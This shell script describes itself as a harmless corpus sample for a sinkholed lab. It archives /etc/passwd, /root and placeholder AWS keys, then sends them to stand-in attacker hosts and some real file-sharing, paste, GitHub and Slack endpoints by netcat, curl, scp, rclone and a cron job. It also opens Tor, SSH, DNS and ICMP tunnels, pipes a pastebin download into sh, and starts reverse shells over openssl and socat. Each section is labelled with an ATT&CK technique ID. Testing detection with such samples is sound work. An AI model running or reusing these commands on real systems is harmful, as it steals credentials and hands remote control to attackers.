#!/bin/sh
# MALICIOUS-behaviour corpus sample (harmless): collected data leaves by many channels, and the
# command channel hides behind proxies, tunnels, web services and other protocols. Run with
# --network sinkhole: the *.example.test names resolve only there. Stubs stand in for every tool
# that would reach a real service (see the Dockerfile); nothing leaves the machine.
S=/tmp/.s
/bin/mkdir -p $S
/bin/tar -czf $S/loot.tgz /etc/passwd /root 2>/dev/null
/bin/head -c 6000 /bin/busybox > $S/db.sql
printf 'aws_access_key_id = AKIACORPUSEXAMPLE0000\naws_secret_access_key = corpus/only/not/a/real/secret/000000\n' > $S/keys.txt

# T1048.003: clear-text protocols other than the C2 channel (FTP, raw netcat with a file as input)
/bin/timeout 3 /bin/ftpput -u anonymous -p x files.example.test loot.tgz $S/loot.tgz 2>/dev/null || true
/bin/nc -w 1 drop.example.test 9001 < $S/db.sql 2>/dev/null || true
# T1048.002: SSH and TLS
/usr/bin/curl -s -F "f=@$S/keys.txt" http://drop.example.test/up
/usr/bin/scp -q $S/loot.tgz u@203.0.113.7:/drop/
/bin/sh -c "/bin/tar czf - /root 2>/dev/null | /usr/bin/ssh u@203.0.113.7 'cat > r.tgz'" || true
/usr/bin/openssl s_client -quiet -connect drop.example.test:443 < $S/db.sql
# T1048.001: symmetric encryption before sending
/bin/sh -c "/usr/bin/openssl enc -aes-256-cbc -pbkdf2 -pass pass:k -in $S/loot.tgz | /bin/nc -w 1 drop.example.test 9002" 2>/dev/null || true
/usr/bin/gpg --batch --passphrase k -c $S/db.sql
/usr/bin/curl -s -T $S/db.sql.gpg https://drop.example.test/u/
# T1567.002: cloud storage and file-sharing services
/usr/bin/rclone copy $S exfil:bucket/loot
/usr/local/bin/aws s3 cp $S/loot.tgz s3://drop-bucket/loot.tgz --quiet
/usr/bin/curl -s --upload-file $S/loot.tgz https://transfer.sh/loot.tgz
# T1567.003: a paste site
/usr/bin/curl -s -F "file=@$S/keys.txt" https://0x0.st
# T1567.001: a code repository
/usr/bin/git -C $S remote add o https://git.example.test/u/loot.git
/usr/bin/git -C $S push -q o HEAD
/usr/bin/git -C $S push https://x-access-token:corpus@git.example.test/u/drop.git HEAD:main
/usr/bin/curl -s -X PUT -d @$S/keys.txt https://api.github.com/repos/corpus/drop/contents/k.txt
# T1567.004: a webhook
/usr/bin/curl -s -X POST -d '{"text":"loot ready"}' https://hooks.slack.com/services/T000/B000/XXXX
# T1030: fixed-size chunks, then sent
/usr/bin/split -b 4k $S/loot.tgz $S/part.
/usr/bin/curl -s -T $S/part.aa https://drop.example.test/u/
# T1029: a scheduled upload
/bin/sh -c "(crontab -l 2>/dev/null; echo '*/30 * * * * tar czf - /root | curl -s -T - ftp://203.0.113.7/in/') | crontab -" 2>/dev/null || true
# T1132.001: standard encoding before sending
/bin/sh -c "base64 $S/keys.txt | /bin/nc -w 1 drop.example.test 9003" 2>/dev/null || true
/usr/bin/curl -s -d "d=$(/bin/base64 $S/keys.txt | /bin/tr -d '\n')" http://c2.example.test/c

# T1090: proxies; T1090.001: a relay; T1090.003: Tor
/usr/bin/ssh -fND 1080 u@203.0.113.7
/usr/bin/curl -s --socks5-hostname 198.51.100.9:1080 http://c2.example.test/t
/usr/bin/socat TCP-LISTEN:8443,fork,reuseaddr TCP:10.0.0.5:443
/usr/bin/tor --SocksPort 9050 --RunAsDaemon 1
/usr/bin/proxychains4 -q /usr/bin/curl -s http://c2.example.test/
/bin/nc -w 1 127.0.0.1 9050 </dev/null 2>/dev/null || true
# T1572: tunnels (HTTP/TLS, SSH reverse forward, DNS)
/usr/local/bin/ngrok tcp 22 --authtoken corpus
/usr/local/bin/chisel client relay.example.test:443 R:socks
/usr/local/bin/frpc -c $S/frpc.toml
/usr/bin/ssh -o StrictHostKeyChecking=no -R 8080:127.0.0.1:22 u@203.0.113.7
/usr/bin/ssh -NL 5432:10.0.0.7:5432 u@203.0.113.7
/usr/sbin/iodine -f -P pw t.example.test
# T1102.002: a chat bot API as the command channel (stubbed, and once on the wire to the sinkhole)
/usr/bin/curl -s "https://api.telegram.org/bot123456789:AAEcorpusExampleToken00000000000/getUpdates?offset=1"
printf 'GET /bot123456789:AAEcorpusExampleToken00000000000/getUpdates HTTP/1.1\r\nHost: api.example.test\r\n\r\n' | /bin/nc -w 1 api.example.test 80 >/dev/null 2>&1 || true
# T1102.003: commands from a paste, run; T1102.001: the C2 address read from a paste
/bin/sh -c "/usr/bin/curl -s https://pastebin.com/raw/Ab12Cd34 | sh"
/bin/sh -c '/bin/nc -w 1 "$(/usr/bin/curl -s https://pastebin.com/raw/Xy12)" 4444' 2>/dev/null || true
# T1095: ICMP channels
/usr/local/bin/icmpsh -t 203.0.113.7 -d 500
/usr/local/bin/ptunnel-ng -p 203.0.113.7 -l 2222 -r 10.0.0.5 -R 22
# T1573.002: a shell over TLS; T1573.001: a shared-key netcat
/bin/timeout 3 /bin/sh -c "rm -f /tmp/.f; mkfifo /tmp/.f; /bin/sh -i < /tmp/.f 2>&1 | /usr/bin/openssl s_client -quiet -connect c2.example.test:443 > /tmp/.f" 2>/dev/null || true
/bin/rm -f /tmp/.f
/usr/bin/socat OPENSSL:c2.example.test:443,verify=0 EXEC:/bin/sh,pty,stderr
/usr/bin/cryptcat -k s3cr3t 203.0.113.7 8443
# T1071.003: mail (a stub client, and SMTP spoken by netcat to the sinkhole)
/usr/bin/swaks --to drop@example.test --server mx.example.test --attach $S/loot.tgz
printf 'EHLO corpus\r\nMAIL FROM:<a@example.test>\r\nRCPT TO:<drop@example.test>\r\n' | /bin/nc -w 1 mx.example.test 25 >/dev/null 2>&1 || true
# T1071.005: publish/subscribe (a stub client, and an MQTT CONNECT to the sinkhole)
/usr/bin/mosquitto_sub -h broker.example.test -p 8883 -t bots/42/cmd
printf '\020\032\000\004MQTT\004\002\000\074\000\016bot-42-example' | /bin/nc -w 1 broker.example.test 1883 >/dev/null 2>&1 || true
# T1205.001: port knocking
/usr/bin/knock 203.0.113.7 7000 8000 9000
/bin/rm -rf $S
echo "[corpus] exfil and c2 done"
exit 0
